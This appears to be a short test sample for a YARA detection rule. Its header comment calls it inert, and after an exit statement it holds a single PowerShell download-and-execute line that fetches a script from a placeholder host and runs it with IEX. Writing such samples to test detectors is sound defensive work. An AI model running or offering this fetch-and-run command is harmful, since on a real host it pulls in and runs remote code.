# canhgac YARA test sample - inert: exits at once; URLs are under the reserved .invalid TLD
exit
IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x.ps1')
